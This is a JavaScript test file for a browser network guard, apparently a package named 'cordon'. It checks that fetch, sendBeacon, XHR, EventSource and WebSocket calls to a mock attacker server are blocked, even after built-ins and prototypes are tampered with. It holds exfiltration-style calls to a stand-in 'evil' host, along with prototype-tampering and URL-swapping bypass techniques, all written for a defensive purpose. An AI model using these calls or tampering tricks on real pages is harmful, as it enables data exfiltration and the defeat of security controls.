// The wrappers against a script that has replaced the built-ins under them, before each call. No CSP is pinned here: what
// is held, the wrappers hold.
import assert from "node:assert/strict";
import { after, before, suite, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { packageScript } from "../support/package-scripts.mjs";
import { serve, shut } from "../support/servers.mjs";

const SETTLE_MS = 400;
const HTML = "text/html; charset=utf-8";
const SCRIPT = "text/javascript; charset=utf-8";
const PAGE = `<!doctype html><meta charset="utf-8"><title>page</title><link rel="icon" href="data:,">
  <script type="module">import * as cordon from "/guard.js"; window.cordon = cordon;</script>`;

function servePage({ url }, response) {
  const path = new URL(url, "http://page").pathname;
  const script = packageScript(path);
  if (script !== undefined) {
    response.writeHead(200, { "Content-Type": SCRIPT }).end(script);
  } else {
    response.writeHead(200, { "Content-Type": HTML, "Cache-Control": "no-store" }).end(path === "/" ? PAGE : "own");
  }
}

function serveAttacker(_, response) {
  response.writeHead(200, { "Content-Type": "text/plain", "Access-Control-Allow-Origin": "*" }).end("got it");
}

/** What a script calls, each with a path of its own. */
const CALLS = {
  fetch: `fetch(evil + "/fetch", { mode: "no-cors" }).catch(() => {})`,
  request: `fetch(new Request(evil + "/request", { mode: "no-cors", method: "POST", body: "x" })).catch(() => {})`,
  subclass: `fetch(new (class extends Request { get url() { return own; } })(evil + "/subclass", { mode: "no-cors" })).catch(() => {})`,
  twice: `let n = 0; fetch({ toString: () => (n++ ? evil + "/twice" : evil + "/twice") }, { mode: "no-cors" }).catch(() => {})`,
  beacon: `navigator.sendBeacon(evil + "/beacon", "x")`,
  "beacon-call": `Navigator.prototype.sendBeacon.call(navigator, evil + "/beacon-call", "x")`,
  xhr: `const x = new XMLHttpRequest(); x.open("GET", evil + "/xhr"); x.send()`,
  "xhr-sync": `const x = new XMLHttpRequest(); x.open("GET", evil + "/xhr-sync", false); x.send()`,
  eventsource: `new EventSource(evil + "/eventsource")`,
  websocket: `new WebSocket(evil.replace("http", "ws") + "/websocket")`,
  "websocket-subclass": `new (class extends WebSocket {})(evil.replace("http", "ws") + "/websocket-subclass")`,
  "websocket-constructor": `new WebSocket.prototype.constructor(evil.replace("http", "ws") + "/websocket-constructor")`,
};

/** Each replaces something with `swap(object, property, value or function)`, which is put back afterwards. */
const TAMPERS = {
  nothing: "",
  "what was deleted and shadowed": `
    delete window.fetch; delete Navigator.prototype.sendBeacon; delete XMLHttpRequest.prototype.open;
    delete window.EventSource; delete window.WebSocket;
    for (const [object, name] of [[window, "fetch"], [Navigator.prototype, "sendBeacon"], [XMLHttpRequest.prototype, "open"]]) {
      try { Object.defineProperty(object, name, { value: Object.getOwnPropertyDescriptor(object, name).value }); } catch {}
    }`,
  "String.prototype": `
    for (const name of ["charCodeAt", "codePointAt", "slice", "startsWith", "indexOf", "split", "toLowerCase", "replace"])
      if (name !== "replace") swap(String.prototype, name, function () { return name.endsWith("At") ? 97 : own; });`,
  TextDecoder: `swap(TextDecoder.prototype, "decode", () => own);`,
  TextEncoder: `
    const { encodeInto } = TextEncoder.prototype;
    swap(TextEncoder.prototype, "encode", () => new Uint8Array(0));
    swap(TextEncoder.prototype, "encodeInto", function (text, view) { return encodeInto.call(this, own, view); });`,
  "WebAssembly.Table": `
    const { get } = WebAssembly.Table.prototype;
    swap(WebAssembly.Table.prototype, "get", function () { return own; });
    swap(WebAssembly.Table.prototype, "set", function () {});
    swap(WebAssembly.Table.prototype, "grow", function () { return 0; });`,
  "WebAssembly.Memory": `swapGetter(WebAssembly.Memory.prototype, "buffer", () => new ArrayBuffer(1 << 21));`,
  "typed arrays": `
    const typed = Object.getPrototypeOf(Uint8Array.prototype);
    for (const name of ["subarray", "set", "slice"]) swap(typed, name, () => new Uint8Array(8));
    for (const name of ["setInt32", "getInt32", "setFloat64"]) swap(DataView.prototype, name, () => 0);`,
  "Array.prototype": `
    const steps = Object.getPrototypeOf([][Symbol.iterator]());
    swap(Array.prototype, Symbol.iterator, function* () { yield own; });
    swap(steps, "next", () => ({ done: true }));
    for (const name of ["push", "map", "join", "slice", "concat", "forEach", "indexOf", "includes"]) swap(Array.prototype, name, () => [own]);`,
  "Function.prototype": `for (const name of ["call", "apply", "bind"]) swap(Function.prototype, name, () => true);`,
  Reflect: `for (const name of ["apply", "construct", "get", "set", "defineProperty"]) swap(Reflect, name, () => true);`,
  URL: `swapGetter(URL.prototype, "href", () => own); swapGetter(URL.prototype, "origin", () => own); swap(URL.prototype, "toString", () => own);`,
  Request: `swapGetter(Request.prototype, "url", () => own);`,
  Node: `swapGetter(Node.prototype, "baseURI", () => own);`,
  Object: `
    for (const name of ["value", "get", "writable", "configurable", "then", "toJSON", "apply", "construct", "written", "read"])
      if (name !== "get") swapGetter(Object.prototype, name, () => undefined);
    for (const index of [0, 1, 2, 3]) swapGetter(Object.prototype, index, () => own);
    swap(Object.prototype, "constructor", function () { return own; });`,
  "an Object.prototype that accepts": `swap(Object.prototype, "allowed", true); swap(Object.prototype, "judge", () => true); swap(Object.prototype, "get", () => () => true);`,
  "WeakMap and Proxy": `
    for (const name of ["get", "has", "set"]) swap(WeakMap.prototype, name, () => undefined);
    for (const name of ["Proxy", "Request", "URL", "TextDecoder", "WeakMap", "DOMException"]) swap(window, name, function () { return {}; });`,
  "Symbol.hasInstance": `swap(Error, Symbol.hasInstance, () => true); swap(Object, Symbol.hasInstance, () => true);`,
  "a base that moved": `document.head.appendChild(document.createElement("base")).href = evil + "/";`,
  "the whole stack": `
    const deep = (work) => { try { deep(work); } catch { work(); } };
    deep(() => { try { fetch(evil + "/fetch", { mode: "no-cors" }).catch(() => {}); } catch {} });`,
};

/** Runs in the page. Whatever was tampered with is put back, so that the driver finds the page as it was. */
function attack(source, evil, own) {
  const undo = [];
  const { defineProperty, getOwnPropertyDescriptor } = Object;
  const { deleteProperty } = Reflect;
  const replace = (object, name, descriptor) => {
    const before = getOwnPropertyDescriptor(object, name);
    const back = () => (before ? defineProperty(object, name, before) : deleteProperty(object, name));
    defineProperty(object, name, descriptor);
    undo[undo.length] = back;
  };
  const plain = (value) => Object.assign(Object.create(null), { value, writable: true, configurable: true });
  const swap = (object, name, value) => replace(object, name, plain(value));
  const swapGetter = (object, name, get) =>
    replace(object, name, Object.assign(Object.create(null), { get, set() {}, configurable: true }));
  const run = new Function("evil", "own", "swap", "swapGetter", source);
  try {
    run(evil, own, swap, swapGetter);
    return "ran";
  } catch (error) {
    return `${error?.name}`;
  } finally {
    for (let at = undo.length - 1; at >= 0; at--) undo[at]();
  }
}

export function hardened(Browser) {
  suite(`the guard's wrappers in ${Browser.engine}`, () => {
    let page, attacker, browser;

    before(async () => {
      page = await serve(servePage);
      attacker = await serve(serveAttacker);
      browser = await Browser.launch();
    });

    after(() => shut(browser, page, attacker));

    async function open(guarded, options = { pinCsp: false }) {
      attacker.hits.length = 0;
      await browser.open(`${page.origin}/`);
      await browser.until(() => window.cordon !== undefined, [], "the package");
      if (!guarded) return;
      await browser.run((options) => {
        window.guard = window.cordon.installGuard({ connect: ["'self'"] }, options);
      }, options);
    }

    const attackWith = (tamper, call) =>
      browser.run(attack, `"use strict"; ${tamper}; ${call}`, attacker.origin, `${page.origin}/own`);
    const violations = () => browser.run(() => window.guard.violations.map(({ api, url }) => ({ api, url })));

    test("with the guard off, each call reaches the attacker", async (t) => {
      for (const [name, call] of Object.entries(CALLS)) {
        await t.test(name, async () => {
          await open(false);
          await attackWith("", call);
          for (let waited = 0; waited < 3000 && !attacker.hits.includes(`/${name}`); waited += 50) await sleep(50);
          assert.ok(attacker.hits.includes(`/${name}`), attacker.hits.join());
        });
      }
    });

    for (const [tampered, tamper] of Object.entries(TAMPERS)) {
      test(`no call gets through: ${tampered}`, async (t) => {
        await open(true);
        for (const [name, call] of Object.entries(CALLS)) {
          await t.test(name, async () => {
            await attackWith(tamper, call);
          });
        }
        await sleep(SETTLE_MS);
        assert.deepEqual(attacker.hits, []);
        // The guard still stands: it refuses and allows what it did, without anybody's tampering.
        page.hits.length = 0;
        const after = await browser.run(
          async (evil, own) => {
            const refused = await fetch(evil, { mode: "no-cors" }).then(
              () => "sent",
              (error) => error.name,
            );
            const allowed = await fetch(own).then(
              (response) => response.status,
              (error) => error.message,
            );
            return { refused, allowed, check: window.guard.check(evil).allowed };
          },
          `${attacker.origin}/after`,
          `${page.origin}/own`,
        );
        assert.deepEqual(after, { refused: "TypeError", allowed: 200, check: false });
        assert.ok((await violations()).some(({ url }) => url.endsWith("/after")));
      });
    }

    test("what was judged is what is sent", async () => {
      await open(true);
      const sent = await browser.run(
        async (evil, own) => {
          const changing = (first, then) => {
            let reads = 0;
            return {
              toString: () => (reads++ === 0 ? first : then),
              [Symbol.toPrimitive]: () => (reads++ === 0 ? first : then),
            };
          };
          const refused = (work) => {
            try {
              return work() === false ? "refused" : "sent";
            } catch (error) {
              return error.name;
            }
          };
          const one = await fetch(changing(`${own}?fetch`, evil), { mode: "cors" }).then((response) => response.url);
          navigator.sendBeacon(changing(`${own}?beacon`, evil), "x");
          const xhr = new XMLHttpRequest();
          xhr.open("GET", changing(`${own}?xhr`, evil), false);
          xhr.send();
          let urls = 0;
          const init = {
            get method() {
              urls++;
              return "POST";
            },
            get body() {
              return "x";
            },
          };
          await fetch(`${own}?init`, init);
          return {
            one,
            xhr: xhr.responseURL,
            init: urls,
            reversed: refused(() => navigator.sendBeacon(changing(evil, own), "x")),
          };
        },
        `${attacker.origin}/toctou`,
        `${page.origin}/own`,
      );
      assert.deepEqual(sent, {
        one: `${page.origin}/own?fetch`,
        xhr: `${page.origin}/own?xhr`,
        init: 1,
        reversed: "refused",
      });
      await sleep(SETTLE_MS);
      assert.deepEqual(attacker.hits, []);
      assert.ok(page.hits.includes("/own?beacon"), page.hits.join());
    });

    test("the replacements look like the platform's own", async () => {
      await open(false);
      const looks = () =>
        browser.run(() => {
          const all = {
            fetch,
            sendBeacon: navigator.sendBeacon,
            open: XMLHttpRequest.prototype.open,
            WebSocket,
            EventSource,
            Worker,
            toString: Function.prototype.toString,
          };
          return Object.entries(all).map(([name, one]) => [
            name,
            one.name,
            one.length,
            `${one}`,
            Object.keys(one).join(),
          ]);
        });
      const before = await looks();
      const natives = await browser.run(() => {
        window.natives = [fetch, WebSocket, navigator.sendBeacon];
      });
      assert.equal(natives ?? null, null);
      await browser.run(() => {
        window.guard = window.cordon.installGuard({}, { pinCsp: false });
      });
      assert.deepEqual(await looks(), before);
      const socket = await browser.run(() => ({
        statics: WebSocket.OPEN,
        sub: new (class extends EventSource {})("/own") instanceof EventSource,
        own: WebSocket.prototype.constructor === WebSocket,
        deleted: Reflect.deleteProperty(window, "fetch"),
        configurable: Object.getOwnPropertyDescriptor(Navigator.prototype, "sendBeacon").configurable,
      }));
      assert.deepEqual(socket, { statics: 1, sub: true, own: true, deleted: false, configurable: false });
      const same = await browser.run(() => {
        const now = () => [fetch, WebSocket, navigator.sendBeacon].map((one, at) => one === window.natives[at]);
        const during = now();
        window.guard.uninstall();
        return { during, after: now() };
      });
      assert.deepEqual(same, { during: [false, false, false], after: [true, true, true] });
    });

    test("the application may put its own function on top", async () => {
      await open(true);
      const seen = await browser.run(async (evil) => {
        const before = window.fetch;
        let calls = 0;
        window.fetch = (...args) => {
          calls++;
          return before(...args);
        };
        const refused = await fetch(evil, { mode: "no-cors" }).catch((error) => error.name);
        return { refused, calls };
      }, `${attacker.origin}/top`);
      assert.deepEqual(seen, { refused: "TypeError", calls: 1 });
      assert.deepEqual(attacker.hits, []);
    });
  });
}
